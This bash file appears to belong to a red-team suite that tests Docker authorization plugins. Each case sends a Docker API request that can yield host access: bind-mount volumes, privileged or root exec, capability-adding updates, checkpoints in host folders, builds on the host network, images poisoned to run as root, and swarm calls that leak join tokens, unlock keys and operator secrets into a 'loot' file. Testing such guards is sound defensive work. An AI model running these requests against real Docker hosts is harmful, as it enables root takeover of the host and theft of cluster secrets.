# Every other endpoint that can hand out the host (class (c) of engine.md 5.1).
# shellcheck shell=bash

# --- volumes and networks --------------------------------------------------------------------

road 5.1 volume_that_is_a_bind "read write" "A volume of the local driver that is a bind mount, then a hardened container with it."
volume_that_is_a_bind() {
    send_json POST /v1.41/volumes/create "{\"Name\":\"vv\",\"DriverOpts\":{\"type\":\"none\",\"o\":\"bind\",\"device\":\"$PRIZE\"}}"
    run_body "$(hardened '"Binds":["vv:/h"]')"
}

road 5.1 network_with_a_bridge_on_the_host "interface" "A bridge network that makes an interface of the attacker's choice on the host."
network_with_a_bridge_on_the_host() {
    send_json POST /v1.41/networks/create "{\"Name\":\"n\",\"Driver\":\"bridge\",\"Options\":{\"com.docker.network.bridge.name\":\"$INTERFACE\"}}"
}

road 5.1 network_on_the_hosts_card "interface" "A macvlan network with a card of the host for its parent." \
    "no_control=the card of this machine takes no second address"
network_on_the_hosts_card() {
    send_json POST /v1.41/networks/create '{"Name":"n","Driver":"macvlan","Options":{"parent":"lo"}}'
}

road 5.1 network_connected_with_sysctls "said" "A container connected to a network with a sysctl among its options." \
    "no_control=the networks of this machine have no interfaces"
network_connected_with_sysctls() {
    local id
    send_json POST /v1.41/containers/create "$(hardened '')"
    id=$(made)
    send_json POST /v1.41/networks/bridge/connect \
        "{\"Container\":\"$id\",\"EndpointConfig\":{\"DriverOpts\":{\"com.docker.network.endpoint.sysctls\":\"net.ipv4.conf.IFNAME.route_localnet=1\"}}}"
}

# --- commands in containers ------------------------------------------------------------------

sleeper() { # a hardened container that runs; its id in $ID
    send_json POST /v1.41/containers/create "{\"Image\":\"$IMAGE\",\"User\":\"1001:1001\",\"Cmd\":[\"sleep\",\"600\"],\"HostConfig\":{$HARD}}"
    ID=$(made)
    send_empty POST "/v1.41/containers/$ID/start"
}

road 5.1 exec_as_root "root" "A command as root in a hardened container of one's own." granted=baseline
exec_as_root() {
    sleeper
    send_json POST "/v1.41/containers/$ID/exec" "{\"User\":\"0\",\"AttachStdout\":true,\"Cmd\":[\"sh\",\"-c\",\"$PAYLOAD\"]}"
    send_json POST "/v1.41/exec/$(made)/start" '{}'
}

road 5.1 privileged_exec "privileged" "A privileged command in a hardened container of one's own."
privileged_exec() {
    local command
    sleeper
    send_json POST "/v1.41/containers/$ID/exec" '{"Privileged":true,"AttachStdout":true,"Cmd":["cat","/proc/self/status"]}'
    command=$(made)
    send GET "/v1.41/exec/$command/json"
    send_json POST "/v1.41/exec/$command/start" '{}'
}

road 8.6 privileged_exec_in_other_case "privileged" "The same with the key written PRIVILEGED, after a false one."
privileged_exec_in_other_case() {
    sleeper
    send_json POST "/v1.41/containers/$ID/exec" '{"Privileged":false,"PRIVILEGED":true,"AttachStdout":true,"Cmd":["id"]}'
    send GET "/v1.41/exec/$(made)/json"
}

road 5.1 update_of_more_than_limits "power" "An update that brings devices, capabilities and a cgroup besides a limit." \
    "no_control=engines ignore what is no limit in an update"
update_of_more_than_limits() {
    sleeper
    send_json POST "/v1.41/containers/$ID/update" '{"PidsLimit":-1,"Privileged":true,"CapAdd":["ALL"],"CgroupParent":"/","Devices":[{"PathOnHost":"/dev/kmsg"}]}'
    send_json POST "/v1.41/containers/$ID/exec" '{"AttachStdout":true,"Cmd":["cat","/proc/self/status"]}'
    send_json POST "/v1.41/exec/$(made)/start" '{}'
}

# --- checkpoints -----------------------------------------------------------------------------

road 5.1 checkpoints_that_list_the_host "read" "The list of checkpoints in a folder of the host: its folders are told."
checkpoints_that_list_the_host() {
    sleeper
    send GET "/v1.41/containers/$ID/checkpoints?dir=$PRIZE"
}

road 5.1 checkpoint_removed_from_the_host "write" "The removal of a checkpoint in a folder of the host: the engine removes that folder as root."
checkpoint_removed_from_the_host() {
    sleeper
    send DELETE "/v1.41/containers/$ID/checkpoints/$KEPT?dir=$PRIZE"
}

road 5.1 checkpoint_written_to_the_host "write" "A checkpoint written into a folder of the host." \
    "no_control=a checkpoint needs criu, which is not here; the engine removes the folder again"
checkpoint_written_to_the_host() {
    sleeper
    send_json POST "/v1.41/containers/$ID/checkpoints" "{\"CheckpointID\":\"c1\",\"CheckpointDir\":\"$PRIZE\"}"
}

road 5.1 start_from_a_checkpoint_of_the_host "read" "A start from a checkpoint in a folder of the host." \
    "no_control=engines refuse a folder of one's own here"
start_from_a_checkpoint_of_the_host() {
    send_json POST /v1.41/containers/create "$(hardened '')"
    send_empty POST "/v1.41/containers/$(made)/start?checkpoint=$KEPT&checkpoint-dir=$PRIZE"
}

# --- images ----------------------------------------------------------------------------------

road 5.1 build_as_root "root soft" "A classic build whose RUN is the payload." granted=baseline
build_as_root() {
    mkdir -p "$WORK/build"
    printf 'FROM %s\nRUN %s\n' "$ROOT_IMAGE" "$PAYLOAD" >"$WORK/build/Dockerfile"
    tar -C "$WORK/build" -c . >"$WORK/build.tar"
    send_stream POST '/v1.41/build?nocache=1&networkmode=none' "$WORK/build.tar"
}

road 5.1 build_with_the_hosts_network "network" "A classic build with the network of the host."
build_with_the_hosts_network() {
    mkdir -p "$WORK/build"
    printf 'FROM %s\nRUN %s\n' "$ROOT_IMAGE" "$PAYLOAD" >"$WORK/build/Dockerfile"
    tar -C "$WORK/build" -c . >"$WORK/build.tar"
    send_stream POST '/v1.41/build?nocache=1&networkmode=host' "$WORK/build.tar"
}

road 8.2 buildkit_with_the_hosts_network "network" "A build by BuildKit (session and grpc) with the network of the host."
buildkit_with_the_hosts_network() {
    mkdir -p "$WORK/build"
    printf 'FROM %s\nUSER 0\nRUN %s\n' "$IMAGE" "$PAYLOAD" >"$WORK/build/Dockerfile"
    # Debian's client of 20.10 has BuildKit's own client in it, also for newer engines.
    DOCKER_BUILDKIT=1 timeout 60 /usr/bin/docker -H "unix://$SOCK" build --progress plain --no-cache --network host "$WORK/build" \
        >"$ANSWER" 2>&1 </dev/null
    echo "$?" >"$WORK/status"
    keep_answer docker "build --network host"
}

road 5.1 grpc_to_buildkit "said" "The door to BuildKit, behind which no plugin sees anything." granted=baseline
grpc_to_buildkit() {
    TELLTALE="HTTP/1.1 101"
    echo | python3 "$redteam/hijack.py" "$SOCK" POST /v1.41/grpc h2c >"$ANSWER"
    head -n 1 "$ANSWER" | tr -d '\r\0' | cut -d ' ' -f 2 >"$WORK/status"
    keep_answer POST /v1.41/grpc
}

road 5.1 session_with_buildkit "said" "A session of BuildKit." granted=baseline
session_with_buildkit() {
    TELLTALE="HTTP/1.1 101"
    echo | python3 "$redteam/hijack.py" "$SOCK" POST /v1.41/session h2c >"$ANSWER"
    head -n 1 "$ANSWER" | tr -d '\r\0' | cut -d ' ' -f 2 >"$WORK/status"
    keep_answer POST /v1.41/session
}

road 5.1 build_canceled "said" "Somebody's build canceled by its id." "no_control=there is no build to cancel"
build_canceled() { send_empty POST /v1.41/build/cancel?id=1; }

road 5.1 build_from_the_hosts_loopback "network" "A build whose context is an address on the host's loopback." granted=baseline
build_from_the_hosts_loopback() { send_empty POST "/v1.41/build?remote=http://127.0.0.1:$PORT/Dockerfile"; }

road 5.1 import_from_the_hosts_loopback "network" "An import from an address on the host's loopback." granted=baseline
import_from_the_hosts_loopback() { send_empty POST "/v1.41/images/create?fromSrc=http://127.0.0.1:$PORT/token"; }

road 8.13 import_of_a_root_image "root" "An imported image whose USER is 0, run without a user in the request." granted=baseline
import_of_a_root_image() {
    tar -C "$WORK/image" -c . >"$WORK/image.tar"
    send_stream POST '/v1.41/images/create?fromSrc=-&repo=qw/poisoned&tag=1&changes=USER%200&changes=VOLUME%20/etc&changes=ONBUILD%20USER%200' "$WORK/image.tar"
    as_user "" qw/poisoned:1
}

road 8.13 load_of_a_root_image "root" "A loaded image whose health check and user are the attacker's." granted=baseline
load_of_a_root_image() {
    before_the_gate make_image qw/loaded:1 'USER 0' "HEALTHCHECK CMD $PAYLOAD"
    before_the_gate docker_ save -o "$WORK/loaded.tar" qw/loaded:1
    before_the_gate docker_ rmi qw/loaded:1
    send_stream POST '/v1.41/images/load?quiet=1' "$WORK/loaded.tar"
    as_user "" qw/loaded:1
}

road 8.13 commit_that_changes_the_user "root" "A commit whose body makes root the user of the new image." granted=baseline
commit_that_changes_the_user() {
    send_json POST /v1.41/containers/create "$(hardened '')"
    send_json POST "/v1.41/commit?container=$(made)&repo=qw/committed&tag=1" '{"User":"0"}'
    as_user "" qw/committed:1
}

road 8.13 tag_that_names_a_root_image "root" "A tag moved to an image of root, then a create that names no user." granted=baseline
tag_that_names_a_root_image() {
    before_the_gate make_image qw/moving:1 'USER 1001'
    send_empty POST "/v1.41/images/$ROOT_IMAGE/tag?repo=qw/moving&tag=1"
    as_user "" qw/moving:1
}

# --- reading ---------------------------------------------------------------------------------

road 8.11 profile_of_the_engine "process" "The engine's own command line, told by its profiler."
profile_of_the_engine() { send GET /debug/pprof/cmdline; }

road 8.11 profile_by_another_method "process" "The same by a POST." engines=20.10,26.1
profile_by_another_method() { send_empty POST /debug/pprof/cmdline; }

road 8.11 variables_of_the_engine "process" "The engine's variables, its command line among them."
variables_of_the_engine() { send GET /debug/vars; }

# --- swarm -----------------------------------------------------------------------------------

SWARM_BODY='{"ListenAddr":"127.0.0.1:0","AdvertiseAddr":"127.0.0.1"}'
SWARM_SOCK="$WORK/swarm/docker.sock"

on_swarm() { SOCK=$SWARM_SOCK "$@"; } # on_swarm COMMAND...: at the engine of a_swarm_before

# a_swarm_before: an engine that was a manager of a swarm before it was guarded.  It is one of its own for the whole run,
# as engines do not come out of a swarm unharmed.
a_swarm_before() {
    if [ -z "${PIDS[swarm]:-}" ]; then
        before_the_gate start_swarm_engine
    elif ! on_swarm api GET /v1.41/info | grep -q '"LocalNodeState":"active"'; then
        before_the_gate on_swarm api POST /v1.41/swarm/init -H 'Content-Type: application/json' --data "$SWARM_BODY"
    fi
}

start_swarm_engine() {
    if [ "$LEVEL" = unguarded ]; then
        engine_start swarm '{}'
    else
        engine_start swarm "{\"authorization-plugins\": [\"$PLUGIN\"]}"
    fi
    on_swarm images_import
    on_swarm api POST /v1.41/swarm/init -H 'Content-Type: application/json' --data "$SWARM_BODY"
}

road 5.1 swarm_made "swarm" "A swarm made: its other members may run what they like here."
swarm_made() {
    send_json POST /v1.41/swarm/init "$SWARM_BODY"
    end_swarm
}

road 5.1 swarm_joined "said" "A foreign swarm joined."
swarm_joined() {
    TELLTALE="connection refused" # the engine went and knocked there
    PATIENCE=25
    send_json POST /v1.41/swarm/join "{\"ListenAddr\":\"127.0.0.1:0\",\"AdvertiseAddr\":\"127.0.0.1\",\"RemoteAddrs\":[\"127.0.0.1:1\"],\"JoinToken\":\"SWMTKN-1-3pu6hszjas19xyp7ghgosyx9k8atbfcr8p2is99znpy26u2lkl-1awxwuwd3z9j1z3puu7rcgdbx\"}"
}

road 8.11 swarm_tokens "said" "The tokens with which a machine of the attacker joins as a manager."
swarm_tokens() {
    TELLTALE=SWMTKN-
    a_swarm_before
    on_swarm send GET /v1.41/swarm
}

road 8.11 swarm_key "said" "The key that opens a locked swarm."
swarm_key() {
    TELLTALE=UnlockKey
    a_swarm_before
    on_swarm send GET /v1.41/swarm/unlockkey
}

# service_spec MORE [COMMAND]: a service whose task runs the payload, or a command.
service_spec() {
    printf '{"Name":"s","TaskTemplate":{"ContainerSpec":{"Image":"%s","User":"1001:1001","ReadOnly":true,"CapabilityDrop":["ALL"],"Command":["sh","-c","%s; sleep 600"]%s},"RestartPolicy":{"Condition":"none"}},"Mode":{"Replicated":{"Replicas":1}}}' \
        "$IMAGE" "${2:-$PAYLOAD}" "$1"
}

wait_for_a_task() {
    local tries
    for ((tries = 0; tries < 200; tries++)); do
        seen_write && return
        sleep 0.1
    done
    on_swarm send GET /v1.41/tasks
}

road 5.1 service_with_a_bind "write" "A service of a swarm with a bind mount of the host."
service_with_a_bind() {
    a_swarm_before
    on_swarm send_json POST /v1.41/services/create "$(service_spec ",\"Mounts\":[{\"Type\":\"bind\",\"Source\":\"$PRIZE\",\"Target\":\"/h\"}]")"
    [ -z "$(made)" ] || wait_for_a_task
    on_swarm api DELETE /v1.41/services/s >/dev/null
}

road 5.1 service_updated_with_a_bind "write" "A service from before, updated so that it has a bind mount of the host."
service_updated_with_a_bind() {
    local version
    a_swarm_before
    before_the_gate on_swarm api POST /v1.41/services/create -H 'Content-Type: application/json' --data-binary "$(service_spec '')"
    version=$(on_swarm api GET /v1.41/services/s | jq .Version.Index)
    on_swarm send_json POST "/v1.41/services/s/update?version=$version" \
        "$(service_spec ",\"Mounts\":[{\"Type\":\"bind\",\"Source\":\"$PRIZE\",\"Target\":\"/h\"}]")"
    [ "$(status)" != 200 ] || wait_for_a_task
    on_swarm api DELETE /v1.41/services/s >/dev/null
}

SHOW_GROUPS='cat /proc/self/status; echo end of the task'

# run_service SPEC: what its task says goes into the loot.
run_service() {
    local tries
    on_swarm send_json POST /v1.41/services/create "$1"
    [ -n "$(made)" ] || return
    for ((tries = 0; tries < 60; tries++)); do
        on_swarm api GET '/v1.41/services/s/logs?stdout=1' --max-time 2 >"$ANSWER"
        grep -qa 'end of the task' "$ANSWER" && break
        sleep 0.3
    done
    cat "$ANSWER" >>"$LOOT"
    on_swarm api DELETE /v1.41/services/s >/dev/null
}

road 5.1 service_with_the_secrets_of_others "said" "A secret and a configuration of the operator's, given to a service that prints them." granted=baseline
service_with_the_secrets_of_others() {
    local secret config
    TELLTALE=the-secret-of-the-operator
    a_swarm_before
    before_the_gate secrets_of_the_operator
    secret=$(sed -n 1p "$WORK/ids") config=$(sed -n 2p "$WORK/ids")
    run_service "$(service_spec ",\"Secrets\":[{\"SecretID\":\"$secret\",\"SecretName\":\"kept\",\"File\":{\"Name\":\"s\",\"UID\":\"1001\",\"GID\":\"1001\",\"Mode\":292}}],\"Configs\":[{\"ConfigID\":\"$config\",\"ConfigName\":\"kept\",\"File\":{\"Name\":\"/c\",\"UID\":\"1001\",\"GID\":\"1001\",\"Mode\":292}}]" 'cat /run/secrets/s /c; echo end of the task')"
}

# Their ids stand in the specifications of the services that use them, which everybody may list.
secrets_of_the_operator() {
    local kind
    for kind in secrets configs; do
        on_swarm api DELETE "/v1.41/$kind/kept" >/dev/null
        on_swarm api POST "/v1.41/$kind/create" -H 'Content-Type: application/json' \
            --data "{\"Name\":\"kept\",\"Data\":\"$(printf '%s\n' "$TELLTALE" | base64)\"}" | jq -r .ID
    done >"$WORK/ids"
}

road 5.1 service_without_a_group "gid0 soft" "A service whose user has no group: the image's files give it some." granted=baseline
service_without_a_group() {
    a_swarm_before
    run_service "$(service_spec '' "$SHOW_GROUPS" | sed 's/"1001:1001"/"1005"/')"
}

road 5.1 service_with_groups "gid0 soft" "A service with a group of its own by a number, which is a name in the image's files." granted=baseline
service_with_groups() {
    a_swarm_before
    before_the_gate on_swarm image_with_a_number_for_a_name
    run_service "$(service_spec ',"Groups":["1600"]' "$SHOW_GROUPS" | sed "s|$IMAGE|qw/numbers:1|")"
}

road 5.1 node_made_a_manager "said" "A change of what this machine is in its swarm."
node_made_a_manager() {
    local node version
    TELLTALE='"Availability":"drain"'
    a_swarm_before
    node=$(on_swarm api GET /v1.41/nodes | jq -r '.[0].ID')
    version=$(on_swarm api GET /v1.41/nodes | jq '.[0].Version.Index')
    on_swarm send_json POST "/v1.41/nodes/$node/update?version=$version" '{"Role":"manager","Availability":"drain"}'
    on_swarm send DELETE "/v1.41/nodes/$node"
    on_swarm send GET /v1.41/nodes
}

road 5.1 secret_with_a_template "said" "Secrets and configurations made for other services of the swarm, and read again."
secret_with_a_template() {
    TELLTALE='"Name":"qw-config"'
    a_swarm_before
    on_swarm send_json POST /v1.41/secrets/create '{"Name":"qw-secret","Data":"YQ=="}'
    on_swarm send_json POST "/v1.41/secrets/$(made_or none)/update?version=1" '{"Name":"qw-secret"}'
    on_swarm send_json POST /v1.41/configs/create '{"Name":"qw-config","Data":"YQ=="}'
    on_swarm send_json POST "/v1.41/configs/$(made_or none)/update?version=1" '{"Name":"qw-config"}'
    on_swarm send GET /v1.41/configs
}

# A leave goes on when its request has been given up, until the tasks of the swarm have ended.
wait_for_the_leave() {
    local tries
    for ((tries = 0; tries < 300; tries++)); do
        ! on_swarm api GET /v1.41/info | grep -qF "$TELLTALE" || return
        sleep 0.1
    done
}

road 5.1 swarm_changed_and_left "said" "A swarm from before changed, unlocked and left."
swarm_changed_and_left() {
    local version
    TELLTALE='"LocalNodeState":"inactive"'
    a_swarm_before
    version=$(on_swarm api GET /v1.41/info | jq .Swarm.Cluster.Version.Index)
    on_swarm send_json POST "/v1.41/swarm/update?version=$version&rotateManagerToken=1" '{"Name":"default"}'
    on_swarm send_json POST /v1.41/swarm/unlock '{"UnlockKey":"a"}'
    PATIENCE=4 on_swarm send_empty POST '/v1.41/swarm/leave?force=1'
    [ "$(status)" = 403 ] || wait_for_the_leave
    on_swarm send GET /v1.41/info
}
